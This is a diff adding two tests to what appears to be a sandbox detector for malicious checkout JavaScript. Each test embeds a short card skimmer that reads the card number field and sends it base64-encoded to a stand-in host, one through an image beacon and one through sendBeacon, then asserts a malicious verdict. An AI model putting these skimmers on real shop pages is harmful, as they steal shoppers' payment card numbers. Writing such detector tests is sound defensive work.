@@ -184,6 +184,37 @@ async def test_a_created_pay_button_gets_the_press_that_lands_inside_the_real_on
     assert any("#payButton" in s for p in result.pages for s in p.synthesised)
 
 
+async def test_the_pages_own_button_passes_for_a_kits_pay_button_in_a_test(
+        detonator: Detonator) -> None:
+    """`e.target.closest('#complete-order')`: a kit tests what a press reached against its own
+    shop's name for the pay button; the page's button stands in. A field it asks for by a
+    bracketed name in quotes (`input[name="credit_card[number]"]`) is created."""
+    code = """document.addEventListener('click', function (e) {
+      if (!e.target.closest('#complete-order, button.complete-order')) return;
+      var n = document.querySelector('input[name="credit_card[number]"]');
+      if (n && n.value) new Image().src = 'https://order-metrics.test/c?d=' + btoa(n.value);
+    }, true);"""
+    result = await detonator.detonate("press.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    made = [s for p in result.pages for s in p.synthesised]
+    assert any("as #complete-order" in s and "(pay)" in s for s in made), made
+    assert any("credit_card[number]" in s and "(pan)" in s for s in made), made
+
+
+async def test_a_card_field_passes_for_a_kits_name_for_it_in_a_test(
+        detonator: Detonator) -> None:
+    """`e.target.matches('#cardNumber')` on what the shopper types into: the page's card number
+    field is a card number field of any name."""
+    code = """document.addEventListener('change', function (e) {
+      if (!e.target.matches('#cardNumber, [data-field="card-number"]')) return;
+      navigator.sendBeacon('https://field-metrics.test/f', btoa(e.target.value));
+    }, true);"""
+    result = await detonator.detonate("field.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    made = [s for p in result.pages for s in p.synthesised]
+    assert any("as #cardNumber" in s and "(pan)" in s for s in made), made
+
+
 @pytest.mark.parametrize("selector", ["form#pay", "form.payment-form", "form[name=checkout]"])
 async def test_a_payment_form_asked_for_by_another_name_is_the_card_form(
         detonator: Detonator, selector: str) -> None:
